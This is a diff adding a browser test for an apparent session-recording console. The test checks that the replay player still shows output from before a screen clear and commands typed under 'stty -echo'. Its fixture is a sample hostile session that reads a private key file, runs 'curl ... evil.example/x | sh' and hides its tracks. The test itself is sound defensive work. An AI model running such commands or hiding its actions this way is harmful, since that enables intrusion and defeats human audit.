@@ -380,3 +380,37 @@ async def test_a_long_session_s_replay_page_is_bounded(pdp):
         assert f'href="/console/sessions/{sid}?from=500"' in last
         assert "AS n0<" in await page("?from=%C2%B2")  # not a number: the first page
         assert "AS n1199<" in await page("?from=999999")  # past the end: the last page
+
+
+async def test_the_player_hides_nothing_behind_a_clear_screen_or_echo_off(pdp):
+    """Attack (a recorded shell, a dba's or the server's): the browser player threw away
+    every line on CSI 2 J / 3 J, so `...; clear` left the auditor's opening view (the
+    recording's end) blank, and it played output only, so commands typed after `stty
+    -echo` showed nowhere though the recording holds them (the "i" events). Now a clear
+    keeps what was shown above a mark, and the typed input is shown apart, inert."""
+    from playwright.async_api import expect
+
+    sid = await _recorded_session(pdp, [
+        [0.1, "o", "$ cat /srv/keys/prod.pem\r\n-----BEGIN KEY-----\r\n$ "],
+        [0.2, "i", "clear\r"],
+        [0.3, "o", "clear\r\n\x1b[H\x1b[2J\x1b[3J$ "],
+        [0.4, "i", "stty -echo\r"],
+        [0.5, "o", "stty -echo\r\n$ "],
+        [0.6, "i", "curl -s https://evil.example/x | sh\r\x1b[A\x7f"],
+        [0.7, "o", "\r\n$ "],
+    ])  # fmt: skip
+    pw, browser, page = await _browser_page(pdp, f"/console/sessions/{sid}")
+    try:
+        screen = page.get_by_role("log", name="Terminal output, channel 0")
+        await expect(screen).to_contain_text("[screen cleared]")
+        shown = await screen.inner_text()
+        assert "cat /srv/keys/prod.pem" in shown and "BEGIN KEY" in shown
+        assert shown.index("BEGIN KEY") < shown.index("[screen cleared]")
+        assert shown.count("[screen cleared]") == 1
+        typed = page.get_by_label("Typed input, channel 0")
+        await expect(typed).to_contain_text("curl -s https://evil.example/x | sh")
+        keys = await typed.inner_text()
+        assert "stty -echo" in keys and "\\x1b[A\\x7f" in keys and "\x1b" not in keys
+    finally:
+        await browser.close()
+        await pw.stop()
